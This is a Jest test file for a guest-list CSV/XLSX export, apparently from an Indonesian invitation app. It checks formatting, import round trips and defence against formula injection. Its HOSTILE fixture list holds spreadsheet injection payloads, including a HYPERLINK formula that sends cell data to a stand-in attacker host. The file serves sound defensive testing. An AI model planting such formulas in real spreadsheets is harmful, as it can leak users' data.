import { describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import Papa from 'papaparse';
import {
  couldRunAsFormula,
  normaliseGuestText,
  writeGuestExport,
  type GuestExportRow,
  type GuestRow,
} from '../../../src/guests/spreadsheet';
import { hostileText, parsed } from './sheet-fixtures';

const guestRow = (fields: Partial<GuestExportRow>): GuestExportRow => ({
  name: 'Budi',
  phone: null,
  group: null,
  session: null,
  people: 1,
  statusLabel: 'Belum dikirim',
  answeredPeople: null,
  message: null,
  sentAt: null,
  openedAt: null,
  ...fields,
});

const HOSTILE = [
  '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")',
  '+62 812',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  'Budi;=HYPERLINK("http://jahat.example")',
  'Budi; =1+1',
  'Budi,@cmd',
  'Baris\n=1+1',
  'Budi;"=1+1"',
];

// A cell a spreadsheet could run: a formula character first, after spaces or quotes, or a tab or CR.
const FORMULA_START = /^[ "]*[=+\-@]|^[\t\r]/;

async function xlsxCells(bytes: Buffer): Promise<ExcelJS.Cell[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  const cells: ExcelJS.Cell[] = [];
  workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
  return cells;
}

describe('the CSV export', () => {
  it('UTF-8 with a byte-order mark, ";" between cells, every cell quoted, CRLF', async () => {
    const bytes = await writeGuestExport('csv', [
      guestRow({
        name: 'Ani "Nona" 💍',
        phone: '6281234567890',
        group: 'Keluarga',
        session: 'Sesi 1',
        people: 2,
        statusLabel: 'Hadir',
        answeredPeople: 2,
        message: 'Selamat menempuh hidup baru',
        sentAt: new Date('2026-05-01T03:00:00Z'),
        openedAt: new Date('2026-05-01T17:30:00Z'),
      }),
    ]);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8').slice(1)).toBe(
      '"Nama";"No. HP";"Grup";"Sesi";"Jumlah Orang";"Status";"Jumlah Hadir";"Ucapan";"Dikirim";"Dibuka"\r\n' +
        '"Ani ""Nona"" 💍";"0812-3456-7890";"Keluarga";"Sesi 1";"2";"Hadir";"2";"Selamat menempuh hidup baru";"2026-05-01 10:00";"2026-05-02 00:30"\r\n',
    );
  });

  it('no cell can start a formula, split on ";", on "," or at every separator regardless of quotes', async () => {
    const rows = HOSTILE.map((text) =>
      guestRow({ name: text, group: text, session: text, statusLabel: text, message: text }),
    );
    const text = (await writeGuestExport('csv', rows)).toString('utf8').slice(1);
    const cellsSplitBy = (delimiter: string) => Papa.parse<string[]>(text, { delimiter }).data.flat();
    const naiveCells = text.split(/[;,\t\n]/);
    for (const cell of [...cellsSplitBy(';'), ...cellsSplitBy(','), ...naiveCells])
      expect([cell, FORMULA_START.test(cell)]).toEqual([cell, false]);
    expect(cellsSplitBy(';').some((cell) => couldRunAsFormula(cell))).toBe(false);
  });
});

describe('the XLSX export', () => {
  it('the header bold and in view, columns sized, phones as text, moments in Jakarta time', async () => {
    const bytes = await writeGuestExport('xlsx', [
      guestRow({
        phone: '6281234567890',
        people: 3,
        answeredPeople: 2,
        sentAt: new Date('2026-05-01T03:00:00Z'),
      }),
    ]);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.getColumn(1).width).toBeGreaterThanOrEqual(30);
    const row = sheet.getRow(2);
    expect(row.getCell(2).value).toBe('0812-3456-7890');
    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(5).value).toBe(3);
    expect(row.getCell(9).value).toEqual(new Date('2026-05-01T10:00:00Z'));
    expect(row.getCell(9).numFmt).toBe('dd/mm/yyyy hh:mm');
  });

  it('no cell is a formula, and no text cell can start one', async () => {
    const rows = HOSTILE.map((text) =>
      guestRow({ name: text, group: text, session: text, statusLabel: text, message: text }),
    );
    const cells = await xlsxCells(await writeGuestExport('xlsx', rows));
    expect(cells.length).toBeGreaterThan(HOSTILE.length * 5);
    for (const cell of cells) {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      if (typeof cell.value === 'string')
        expect([cell.value, couldRunAsFormula(cell.value)]).toEqual([cell.value, false]);
    }
  });
});

describe('an export read back as an import', () => {
  const guestText = (max: number) =>
    hostileText.filter((text) => {
      const normal = normaliseGuestText(text);
      return normal.length <= max && !normal.toLowerCase().startsWith('contoh:');
    });
  const phone = fc.option(
    fc
      .stringMatching(/^8\d{8,11}$/)
      .filter((digits) => !digits.endsWith('000000'))
      .map((digits) => `62${digits}`),
    { nil: null },
  );
  const guest = fc.record({
    name: guestText(100).filter((text) => normaliseGuestText(text) !== ''),
    phone,
    group: fc.option(guestText(60), { nil: null }),
    session: fc.option(guestText(60), { nil: null }),
    people: fc.integer({ min: 1, max: 10 }),
  });
  const asRead = (written: GuestRow): GuestRow => ({
    name: normaliseGuestText(written.name),
    phone: written.phone,
    group: written.group === null ? null : normaliseGuestText(written.group) || null,
    session: written.session === null ? null : normaliseGuestText(written.session) || null,
    people: written.people,
  });

  it.each(['csv', 'xlsx'] as const)(
    '%s: the same names, phones, groups, sessions and people',
    async (kind) => {
      await fc.assert(
        fc.asyncProperty(fc.array(guest, { minLength: 1, maxLength: 25 }), async (guests) => {
          const bytes = await writeGuestExport(
            kind,
            guests.map((written) => guestRow({ ...written, message: written.name })),
          );
          const sheet = await parsed(bytes, `tamu.${kind}`);
          expect(sheet.rows.map((row) => row.problems)).toEqual(guests.map(() => []));
          expect(sheet.rows.map((row) => row.guest)).toEqual(guests.map(asRead));
        }),
        { numRuns: kind === 'csv' ? 300 : 100 },
      );
    },
  );
});
